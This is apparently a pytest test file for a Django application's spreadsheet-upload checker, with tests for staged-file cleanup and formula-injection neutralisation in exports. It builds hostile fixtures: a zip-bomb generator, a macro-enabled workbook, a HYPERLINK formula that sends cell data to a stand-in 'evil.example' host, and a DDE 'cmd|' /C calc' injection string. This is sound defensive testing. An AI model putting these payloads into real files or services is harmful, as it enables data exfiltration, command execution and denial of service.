"""Hostile files (issue 8, finding 6): every uploaded workbook is checked before it is parsed;
the corpus is generated here and each file is refused with a Vietnamese message, no traceback.
Staged files are deleted after the commit and after a day; exports neutralise formulas."""

from __future__ import annotations

import csv
import io
import os
import time
import zipfile

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import call_command
from openpyxl import Workbook, load_workbook

from doingoai.core import import_staging, io_safety
from doingoai.core import io as record_io
from doingoai.core import roles as R
from doingoai.core.models import Person
from doingoai.core.registry import registry

PERSONS = registry.get("core.person")
HEADERS = ["Họ và tên", "Giới tính", "Ngày sinh", "Quốc tịch", "Chức vụ"]


def good_xlsx(rows=(("Trần Văn Lành", "Nam", "01/07/1980", "Việt Nam", "Chuyên viên"),)) -> bytes:
    wb = Workbook()
    ws = wb.active
    ws.append(HEADERS)
    for row in rows:
        ws.append(list(row))
    buffer = io.BytesIO()
    wb.save(buffer)
    return buffer.getvalue()


def rezip(data: bytes, *, add: dict[str, bytes] | None = None, drop=(), patch=None) -> bytes:
    """A copy of the XLSX ``data`` with parts added, dropped or rewritten."""
    source = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            if info.filename in drop:
                continue
            content = source.read(info.filename)
            if patch:
                content = patch(info.filename, content)
            target.writestr(info.filename, content)
        for name, content in (add or {}).items():
            target.writestr(name, content)
    return out.getvalue()


def zip_bomb() -> bytes:
    """A valid-looking XLSX whose sheet inflates to ~300 MB (about 300 kB on disk)."""
    base = good_xlsx()
    source = zipfile.ZipFile(io.BytesIO(base))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as target:
        for info in source.infolist():
            if info.filename == "xl/worksheets/sheet1.xml":
                with target.open(info.filename, "w", force_zip64=True) as stream:
                    stream.write(
                        b'<worksheet><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>'
                    )
                    block = b" " * (1 << 20)
                    for _ in range(300):
                        stream.write(block)
                    stream.write(b"</t></is></c></row></sheetData></worksheet>")
            else:
                target.writestr(info.filename, source.read(info.filename))
    return out.getvalue()


def macro_workbook() -> bytes:
    def patch(name: str, content: bytes) -> bytes:
        if name == "[Content_Types].xml":
            return content.replace(b"spreadsheetml.sheet.main+xml", b"sheet.macroEnabled.main+xml")
        return content

    return rezip(good_xlsx(), add={"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0VBA"}, patch=patch)


def huge_sheet() -> bytes:
    """Two cells only, at A1 and at XFD1048576: a parser would allocate the whole grid."""

    def patch(name: str, content: bytes) -> bytes:
        if name == "xl/worksheets/sheet1.xml":
            return content.replace(
                b"</sheetData>",
                b'<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c></row>'
                b"</sheetData>",
            )
        return content

    return rezip(good_xlsx(), patch=patch)


def formula_workbook() -> bytes:
    wb = Workbook()
    ws = wb.active
    ws.append(HEADERS)
    ws.append(['=HYPERLINK("http://evil.example/?"&A1,"Bấm vào")', "Nam", "", "", ""])
    buffer = io.BytesIO()
    wb.save(buffer)
    return buffer.getvalue()


def csv_named_xlsx() -> bytes:
    return "Họ và tên,Giới tính\nTrần Văn Lành,Nam\n".encode()


def renamed_executable() -> bytes:
    return b"MZ\x90\x00\x03\x00\x00\x00" + os.urandom(2048)


def plain_zip() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as target:
        target.writestr("readme.txt", "không phải Excel")
    return out.getvalue()


CORPUS = {
    "zip bomb": (zip_bomb, "zip bomb"),
    "macro": (macro_workbook, "macro"),
    "renamed executable": (renamed_executable, "chương trình"),
    "csv named .xlsx": (csv_named_xlsx, "CSV"),
    "plain zip": (plain_zip, "không phải là bảng tính Excel"),
    "huge sheet": (huge_sheet, "quá lớn"),
    "formulas": (formula_workbook, "công thức"),
    "truncated": (lambda: good_xlsx()[:900], "hỏng"),
    "empty": (lambda: b"", "trống"),
}


@pytest.mark.parametrize("name", CORPUS)
def test_checker_refuses_each_hostile_file(name):
    make, words = CORPUS[name]
    with pytest.raises(io_safety.UnsafeSpreadsheet) as refused:
        io_safety.check_spreadsheet(make())
    assert words.lower() in str(refused.value).lower()


@pytest.mark.django_db
def test_checker_accepts_a_plain_workbook_and_our_own_exports():
    io_safety.check_spreadsheet(good_xlsx())
    io_safety.check_spreadsheet(record_io.template_xlsx(PERSONS))


def test_zip_bomb_is_stopped_without_inflating_it(monkeypatch):
    data = zip_bomb()
    assert len(data) < 2 * 1024 * 1024
    read = []
    original = io_safety._scan_entry

    def spy(archive, info, total, limits):
        result = original(archive, info, total, limits)
        read.append(result)
        return result

    monkeypatch.setattr(io_safety, "_scan_entry", spy)
    with pytest.raises(io_safety.UnsafeSpreadsheet):
        io_safety.check_spreadsheet(data)
    # stopped by the ratio at a few MB, long before the 300 MB the sheet would inflate to
    assert all(total < 10 * 1024 * 1024 for total in read)


@pytest.mark.django_db
@pytest.mark.parametrize("role", [R.ADMIN, R.AGENCY])
@pytest.mark.parametrize("name", CORPUS)
def test_import_page_refuses_hostile_files_in_vietnamese(client_as, settings, name, role):
    if role == R.AGENCY and name not in ("zip bomb", "macro"):
        pytest.skip("the agency runs through the same checker; two files are enough")
    client = client_as(role)
    make, words = CORPUS[name]
    upload = SimpleUploadedFile("du-lieu.xlsx", make(), content_type="application/octet-stream")
    rt = registry.get("delegations.outbounddelegation") if role == R.AGENCY else PERSONS
    url = rt.url("import")
    assert rt.can(client.user, "add")
    response = client.post(url, {"step": "check", "file": upload})
    body = response.content.decode()
    assert response.status_code == 400
    assert words.lower() in body.lower()
    assert "Traceback" not in body
    staged = settings.DATA_DIR / "imports"
    assert not staged.exists() or not list(staged.glob("*.xlsx"))


@pytest.mark.django_db
def test_plan_import_refuses_hostile_files_too(role_user):
    with pytest.raises(record_io.ImportFileError, match="macro"):
        record_io.plan_import(PERSONS, macro_workbook(), role_user(R.ADMIN))


@pytest.mark.django_db
def test_staged_file_deleted_after_commit(client_as, settings):
    client = client_as(R.ADMIN)
    url = PERSONS.url("import")
    upload = SimpleUploadedFile("ok.xlsx", good_xlsx())
    response = client.post(url, {"step": "check", "file": upload})
    assert response.status_code == 200
    token = response.context["token"]
    staged = settings.DATA_DIR / "imports"
    assert (staged / f"{token}.xlsx").exists()
    done = client.post(url, {"step": "commit", "token": token, "mode": "all"})
    assert done.status_code == 200 and done.context["result"].created == 1
    assert not list(staged.iterdir())
    assert Person.objects.filter(full_name="Trần Văn Lành").exists()
    assert client.post(url, {"step": "commit", "token": token}).status_code == 404


@pytest.mark.django_db
def test_valid_only_commit_keeps_only_the_rejected_rows(client_as, settings):
    client = client_as(R.ADMIN)
    url = PERSONS.url("import")
    rows = [("Trần Văn Tốt", "Nam", "01/07/1980", "", ""), ("Trần Văn Hỏng", "Nam", "31/02/1980")]
    response = client.post(
        url, {"step": "check", "file": SimpleUploadedFile("x.xlsx", good_xlsx(rows))}
    )
    token = response.context["token"]
    done = client.post(url, {"step": "commit", "token": token, "mode": "valid_only"})
    assert done.context["result"].rejected == 1
    new_token = done.context["token"]
    assert new_token != token
    assert not (settings.DATA_DIR / "imports" / f"{token}.xlsx").exists()
    rejected = client.post(url, {"step": "download-rejected", "token": new_token})
    ws = load_workbook(io.BytesIO(rejected.content)).active
    assert [c.value for c in ws[2]][0] == "Trần Văn Hỏng"
    assert ws.max_row == 2


@pytest.mark.django_db
def test_staged_files_older_than_a_day_are_pruned(settings, role_user):
    user = role_user(R.ADMIN)
    old = import_staging.stage(good_xlsx(), user)
    day_ago = time.time() - 25 * 3600
    for path in import_staging.staging_dir().glob(f"{old}.*"):
        os.utime(path, (day_ago, day_ago))
    fresh = import_staging.stage(good_xlsx(), user)  # each upload prunes
    assert import_staging.load(old, user) is None
    assert import_staging.load(fresh, user) is not None
    assert import_staging.load(fresh, role_user(R.ADMIN)) is None  # someone else's
    for path in import_staging.staging_dir().glob(f"{fresh}.*"):
        os.utime(path, (day_ago, day_ago))
    call_command("prune_imports")
    assert not list(import_staging.staging_dir().iterdir())


INJECTIONS = ["=1+2", "+84 912 345 678", "-2+3+cmd|' /C calc'!A0", "@SUM(A1:A2)"]


@pytest.mark.django_db
def test_exports_neutralise_formula_injection(client_as):
    for i, text in enumerate(INJECTIONS):
        Person.objects.create(full_name=f"Người thử {i}", position=text)
    client = client_as(R.ADMIN)
    xlsx = client.get(PERSONS.url("export") + "?reason=kiem+thu").getvalue()
    archive = zipfile.ZipFile(io.BytesIO(xlsx))
    sheet = archive.read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet and b"<f " not in sheet
    ws = load_workbook(io.BytesIO(xlsx)).active
    positions = {c.value for row in ws.iter_rows(min_row=2) for c in row}
    assert set(INJECTIONS) <= positions
    quoted = [c for row in ws.iter_rows(min_row=2) for c in row if c.value in INJECTIONS]
    assert quoted and all(c.data_type == "s" and c.quotePrefix for c in quoted)
    response = client.get(PERSONS.url("export") + "?format=csv&reason=kiem+thu")
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    cells = {cell for row in csv.reader(io.StringIO(text)) for cell in row}
    assert {f"'{t}" for t in INJECTIONS} <= cells
    assert not set(INJECTIONS) & cells


@pytest.mark.django_db
def test_reimporting_an_export_with_quoted_cells_keeps_the_text(role_user):
    admin = role_user(R.ADMIN)
    person = Person.objects.create(full_name="Người có dấu cộng", position="+84 912")
    data = record_io.export_xlsx(PERSONS, Person.objects.filter(pk=person.pk))
    result, _plan = record_io.commit_import(PERSONS, data, admin)
    assert result.unchanged == 1
    person.refresh_from_db()
    assert person.position == "+84 912"
